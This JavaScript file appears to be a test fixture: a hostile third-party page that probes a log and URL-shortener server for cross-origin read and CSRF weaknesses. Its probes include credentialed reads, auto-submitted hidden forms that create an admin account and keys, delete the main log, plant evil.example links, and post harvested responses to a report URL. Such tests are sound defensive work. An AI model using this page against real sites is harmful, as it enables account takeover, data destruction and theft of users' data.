// A page of another site. It tries everything that a page can try with a server that the browser
// reaches, and reports what it could read. The test puts in what stands between the at-signs.
const TARGETS = @TARGETS@;
const REPORT = "@REPORT@";
const LOGIN = "@LOGIN@";
const NEXT = "@NEXT@";

const READS = [
  "/v1/events", "/v1/events?limit=1&order=desc", "/v1/events/1", "/v1/head", "/v1/types", "/v1/tags",
  "/v1/logs", "/v1/views", "/v1/logs/main", "/v1/logs/system/events", "/metrics", "/health",
  "/health/ready", "/openapi.json", "/e", "/auth/me", "/v1/accounts", "/v1/keys", "/read?query=",
  "/api/urls", "/abc", "/abc.qr", "/nothing",
];
const EVENT = '{"events":[{"type":"Evil","tags":["evil:1"],"data":1}]}';
const WRITES = [
  ["/e?type=Evil", "x"],
  ["/v1/logs/main/e?type=Evil", "x"],
  ["/e?type=LinkCreated&tag=link:evil", '{"url":"https://evil.example/","chosen":"alias"}'],
  ["/v1/append", EVENT],
  ["/append", EVENT],
  ["/v1/import", '{"type":"Evil","tags":[],"data":1}\n'],
  ["/api/urls", '{"url":"https://evil.example/","alias":"evil"}'],
  ["/v1/accounts", '{"name":"eve","password":"correct horse","roles":["admin"]}'],
  ["/v1/keys", '{"role":"admin"}'],
  ["/auth/rotate", "{}"],
  ["/auth/rotate", ""],
  ["/auth/logout", '{"everywhere":true}'],
  ["/v1/leases/evil", '{"ttl_ms":60000}'],
];

const results = [];
const pause = (ms) => new Promise((done) => setTimeout(done, ms));
// As many at a time as the browser has connections to a host: the others would wait, and give up.
const most = 6;
let busy = 0;
async function attempt(name, act) {
  while (busy >= most) await pause(5);
  busy += 1;
  let outcome;
  try {
    outcome = await Promise.race([act(), pause(5000).then(() => "nothing came")]);
  } catch (error) {
    outcome = "refused by the browser: " + error;
  }
  busy -= 1;
  results.push({ name, outcome: String(outcome).slice(0, 4000) });
}

async function textOf(answer) {
  if (answer.type === "opaque" || answer.type === "opaqueredirect") return "opaque";
  // A stream does not end: what has come is what could be read.
  const reader = answer.body && answer.body.getReader();
  let text = "";
  if (reader) {
    const decoder = new TextDecoder();
    for (let more = true; more && text.length < 3000; ) {
      const next = await Promise.race([reader.read(), pause(1000).then(() => ({ done: true }))]);
      more = !next.done;
      if (more) text += decoder.decode(next.value, { stream: true });
    }
  }
  return answer.status + " " + text;
}

const ask = (url, options) => fetch(url, { redirect: "manual", ...options }).then(textOf);

function xhr(method, url, body) {
  return new Promise((done, fail) => {
    const request = new XMLHttpRequest();
    request.open(method, url);
    request.withCredentials = true;
    request.onload = () => done(request.status + " " + request.responseText);
    request.onerror = () => fail("an error");
    request.send(body);
  });
}

function eventSource(url) {
  return new Promise((done, fail) => {
    const source = new EventSource(url, { withCredentials: true });
    source.onmessage = (message) => { source.close(); done("200 " + message.data); };
    source.onerror = () => { source.close(); fail("an error"); };
  });
}

function script(url) {
  return new Promise((done, fail) => {
    const element = document.createElement("script");
    element.onload = () => done("opaque: loaded");
    element.onerror = () => fail("an error");
    element.src = url;
    document.head.append(element);
  });
}

function frame(url) {
  return new Promise((done) => {
    const element = document.createElement("iframe");
    element.onload = () => {
      let text;
      try { text = "in a frame " + element.contentDocument.body.innerText; } catch (e) { text = "refused by the browser: " + e; }
      done(text);
    };
    element.src = url;
    document.body.append(element);
  });
}

// A form that the browser sends without asking, in a window of its own: as if its user had gone there.
function form(url, enctype, body) {
  const element = document.createElement("form");
  Object.assign(element, { method: "POST", action: url, enctype, target: "posted" });
  const input = document.createElement("input");
  const [name, value] = body.endsWith("}") && body.length > 2 ? [body.slice(0, -1) + ',"x":"', '"}'] : [body, ""];
  Object.assign(input, { name, value, type: "hidden" });
  element.append(input);
  document.body.append(element);
  element.submit();
  return pause(250).then(() => "opaque: sent");
}

function reads(target, paths) {
  return paths.flatMap((path) => {
    const url = target + path;
    const one = (name, act) => attempt(`${name} GET ${url}`, act);
    return [
      one("fetch", () => ask(url)),
      one("fetch, credentials", () => ask(url, { credentials: "include" })),
      one("fetch, User-Agent", () => ask(url, { headers: { "User-Agent": "x" } })),
      one("fetch, NDJSON", () => ask(url, { headers: { Accept: "application/x-ndjson" } })),
      one("fetch, no-cors", () => ask(url, { mode: "no-cors", credentials: "include" })),
      one("XMLHttpRequest", () => xhr("GET", url)),
    ];
  });
}

function writes(target, paths) {
  const simple = ["text/plain", "application/x-www-form-urlencoded", ""];
  return paths.flatMap(([path, body]) => {
    const url = target + path;
    const one = (name, act) => attempt(`${name} POST ${url}`, act);
    const post = { method: "POST", credentials: "include" };
    return [
      ...simple.map((type) => one(`fetch, no-cors, ${type || "no type"}`, () =>
        ask(url, { ...post, mode: "no-cors", body: new Blob([body], { type }) }))),
      one("fetch, text", () => ask(url, { ...post, body })),
      one("fetch, JSON", () => ask(url, { ...post, body, headers: { "Content-Type": "application/json" } })),
      one("fetch, NDJSON", () => ask(url, { ...post, body, headers: { "Content-Type": "application/x-ndjson" } })),
      one("beacon", async () => "opaque: " + navigator.sendBeacon(url, body)),
      one("XMLHttpRequest", () => xhr("POST", url, body)),
    ];
  });
}

async function run() {
  if (LOGIN) {
    // Somebody has typed a name and a password into this browser.
    window.open(LOGIN);
    await pause(2000);
  }
  for (const target of TARGETS) {
    // Under the first name everything; another name of the same server is told what the first was.
    const few = target === TARGETS[0] ? Infinity : 3;
    await Promise.all(reads(target, READS.slice(0, few)));
    await Promise.all(writes(target, WRITES.slice(0, few)));
    await Promise.all([
      attempt(`EventSource ${target}`, () => eventSource(target + "/v1/events")),
      attempt(`script ${target}`, () => script(target + "/v1/events")),
      attempt(`frame ${target}`, () => frame(target + "/v1/events")),
      attempt(`PUT ${target}`, () => ask(target + "/v1/logs/evil", { method: "PUT", credentials: "include" })),
      attempt(`DELETE ${target}`, () => ask(target + "/v1/logs/main?confirm=main", { method: "DELETE", credentials: "include" })),
    ]);
    // One at a time, as a window has one page.
    for (const [path, body] of few === Infinity ? WRITES : []) {
      for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
        await attempt(`form, ${enctype} POST ${target}${path}`, () => form(target + path, enctype, body));
      }
    }
  }
  await pause(1500);
  await fetch(REPORT, { method: "POST", mode: "no-cors", body: JSON.stringify(results) });
  if (NEXT) window.open(NEXT);
}
run();
